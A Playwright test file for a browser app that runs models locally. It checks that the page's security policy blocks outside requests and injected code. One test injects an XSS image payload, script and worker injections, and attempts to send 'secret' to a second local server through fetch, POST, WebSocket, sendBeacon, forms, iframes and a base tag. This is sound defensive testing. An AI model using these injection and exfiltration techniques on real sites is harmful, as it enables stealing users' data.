/** The page asks its own host and the chosen hub, and nobody else: neither by what a person does nor by what got into it. */
import type { Page } from '@playwright/test';
import { cityRows } from '../src/testing/cityRows';
import { type HubServer, startHubServer } from '../src/testing/hubServer';
import { serveTiny } from './support/models';
import { expect, openAdvanced, setting, test } from './support/test';

const REPO = 'org/tiny-bert';
let hub: HubServer;
/** A server that nobody has any reason to ask. */
let elsewhere: HubServer;

test.beforeEach(async ({ page }) => {
  hub = await startHubServer();
  serveTiny(hub, REPO);
  elsewhere = await startHubServer();
  // What the browser itself writes of the worker’s violations does not come to the fixture `errors`; what is said there does.
  page.on('worker', (worker) =>
    worker
      .evaluate(() =>
        addEventListener('securitypolicyviolation', (event) =>
          console.error('in the worker', (event as SecurityPolicyViolationEvent).blockedURI),
        ),
      )
      // One that begins as the test ends.
      .catch(() => undefined),
  );
});
test.afterEach(async () => {
  await hub.close();
  await elsewhere.close();
});

const chooseHub = (page: Page, allowedHosts = '') =>
  page.addInitScript(
    ({ endpoint, hosts }) => {
      localStorage.setItem('tandem.endpoint', endpoint);
      localStorage.setItem('tandem.allowedHosts', hosts);
    },
    { endpoint: hub.url, hosts: allowedHosts },
  );

async function loadFromHub(page: Page): Promise<void> {
  await page.getByRole('button', { name: /^Model:/ }).click();
  await page.getByLabel('Repository').fill(REPO);
  await page.getByRole('button', { name: 'Load', exact: true }).click();
}

async function download(page: Page, click: () => Promise<void>): Promise<void> {
  const started = page.waitForEvent('download');
  await click();
  await (await started).path();
}

test('a GPU computes and proves itself under the policy', async ({ page, site }) => {
  test.setTimeout(300_000);
  await page.addInitScript(() => localStorage.setItem('tandem.device', 'webgpu'));
  await page.goto(site.url);
  await expect(page.getByRole('button', { name: /^Device: WebGPU, fp32, verified/ })).toBeVisible({ timeout: 240_000 });
});

test('a whole visit breaks no rule of the page’s policy, and what a person does asks nobody', async ({ page, site, context }) => {
  test.setTimeout(300_000);
  /** Addresses without what follows "?", as the network knows them. */
  const asked: string[] = [];
  context.on('request', (request) => {
    if (/^(https?|wss?):/.test(request.url())) asked.push(request.url().replace(/[?#].*$/, ''));
  });
  await chooseHub(page);
  await page.goto(site.url);
  await expect(page.getByText('[8, 384]')).toBeVisible();
  await loadFromHub(page);
  await expect(page.getByRole('button', { name: `Remove ${REPO} from this machine` })).toBeVisible({ timeout: 120_000 });
  await page.keyboard.press('Escape');
  await expect(page.getByText('[8, 64]')).toBeVisible();

  const before = asked.length;
  await page.getByRole('textbox', { name: /One (sentence|text) per line/ }).fill('A secret.\nAnother secret.');
  await page.getByRole('textbox', { name: /One (sentence|text) per line/ }).press('Control+Enter');
  await expect(page.getByText('[2, 64]')).toBeVisible();
  for (const format of ['CSV', 'JSON', 'NPY']) {
    await download(page, () => page.getByRole('button', { name: `Download as ${format}` }).click());
  }
  await page.getByRole('tab', { name: 'Data' }).click();
  const buffer = Buffer.from(cityRows(4));
  await page.getByLabel('Files of a data set').setInputFiles({ name: 'few.jsonl', mimeType: 'text/plain', buffer });
  await expect(page.getByText(/8 to train on, 4 to validate/)).toBeVisible();
  await page.getByRole('tab', { name: 'Train' }).click();
  await openAdvanced(page);
  await setting(page, 'Epochs').fill('2');
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await expect(page.getByText('Finished', { exact: true })).toBeVisible({ timeout: 120_000 });
  await page.getByRole('tab', { name: 'Predict' }).click();
  await expect(page.getByRole('region', { name: 'Predictions' }).getByRole('listitem').first()).toBeVisible();
  await page.getByRole('button', { name: /^Model:/ }).click();
  await page.keyboard.press('Escape');
  // Parts of the page that are loaded when they are first shown, from its own host.
  expect(asked.slice(before).filter((url) => !url.startsWith(`${site.url}assets/`))).toEqual([]);

  await page.getByRole('button', { name: /^Device:/ }).click();
  const list = page.getByRole('region', { name: 'Requests of this visit' });
  await list.getByText('All addresses').click();
  expect((await list.getByRole('list').getByRole('listitem').allTextContents()).toSorted()).toEqual(asked.toSorted());
  const host = new URL(hub.url).host;
  const fromHub = asked.filter((url) => url.startsWith(hub.url)).length;
  await expect(list).toContainText(
    `Your texts and files have stayed on this machine. This visit made ${asked.length} requests, all to fetch files: ${asked.length - fromHub} from this page’s own host and ${fromHub} from ${host}.`,
  );
  expect(fromHub).toBe(hub.requests.length + hub.apiRequests.length);
  // The weights were sent once, and their header on its own before.
  const weights = (hub.files.get(`${REPO}/model.safetensors`) as Uint8Array).length;
  const shown = Number(
    /([\d.]+) MB/.exec(
      (await list
        .getByRole('row', { name: `${host} – model weights` })
        .getByRole('cell')
        .last()
        .textContent()) ?? '',
    )?.[1],
  );
  expect(shown).toBeGreaterThan((0.99 * weights) / 1e6);
  expect(shown).toBeLessThan((1.05 * weights) / 1e6);
});

test('what gets into the page or its worker cannot run, and cannot send anything elsewhere', async ({ page, site, errors }) => {
  await page.goto(site.url);
  await expect(page.getByText('[8, 384]')).toBeVisible();
  const url = `${elsewhere.url}/org/a/resolve/main/b?secret`;

  const send = async (address: string) => {
    const tried = (name: string, attempt: () => unknown) =>
      Promise.resolve()
        .then(attempt)
        .then(
          () => name,
          () => undefined,
        );
    const socket = () =>
      new Promise((resolve, reject) => {
        const opened = new WebSocket(address.replace('http', 'ws'));
        opened.onopen = resolve;
        opened.onerror = reject;
      });
    // In the task of an evaluation by Playwright itself, code from texts is let through.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const done = await Promise.all([
      tried('fetch', () => fetch(address, { mode: 'no-cors' })),
      tried('post', () => fetch(address, { method: 'POST', body: 'secret', mode: 'no-cors' })),
      tried('socket', socket),
      tried('import', () => import(address)),
      tried('code from text', () => new Function('1')),
    ]);
    return done.filter((name) => name !== undefined);
  };
  expect(await page.evaluate(send, url)).toEqual([]);
  const [worker] = page.workers();
  expect(await worker.evaluate(send, url)).toEqual([]);

  const ran = await page.evaluate(async (address) => {
    const refused: string[] = [];
    const tryIt = (name: string, attempt: () => void) => {
      try {
        attempt();
      } catch {
        refused.push(name);
      }
    };
    tryIt('markup', () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">');
    });
    tryIt('worker', () => new Worker('data:text/javascript,0'));
    const script = document.createElement('script');
    tryIt('script text', () => {
      script.textContent = 'window.ran = true';
      document.body.append(script);
    });
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    add('img', { src: address });
    add('link', { rel: 'stylesheet', href: address });
    add('iframe', { src: address });
    add('div', { style: `background: url(${address})` });
    tryIt('object', () => add('object', { data: address }));
    add('base', { href: address });
    (add('form', { action: address, method: 'post', target: '_blank' }) as HTMLFormElement).submit();
    navigator.sendBeacon(address, 'secret');
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: 'ran' in window, base: document.baseURI, refused };
  }, url);
  expect(ran).toEqual({ ran: false, base: site.url, refused: ['markup', 'worker', 'script text', 'object'] });
  expect(elsewhere.requests).toEqual([]);
  expect(errors.splice(0).length).toBeGreaterThan(10);
});

test('a hub that redirects to a host nobody named is not followed; with the host named, it is', async ({ page, site, errors }) => {
  serveTiny(elsewhere, REPO);
  hub.faults.cdn = elsewhere.url;
  await chooseHub(page);
  await page.goto(site.url);
  await loadFromHub(page);
  await expect(page.getByRole('dialog').getByRole('alert')).toHaveText(
    /security policy refused 127\.0\.0\.1:\d+, or a host that it redirected/,
  );
  expect(elsewhere.requests).toEqual([]);
  expect(errors.splice(0)).not.toEqual([]);
  await chooseHub(page, new URL(elsewhere.url).host);
  await page.reload();
  await loadFromHub(page);
  await expect(page.getByRole('button', { name: `Remove ${REPO} from this machine` })).toBeVisible({ timeout: 120_000 });
  expect(elsewhere.requests.length).toBeGreaterThan(0);
});
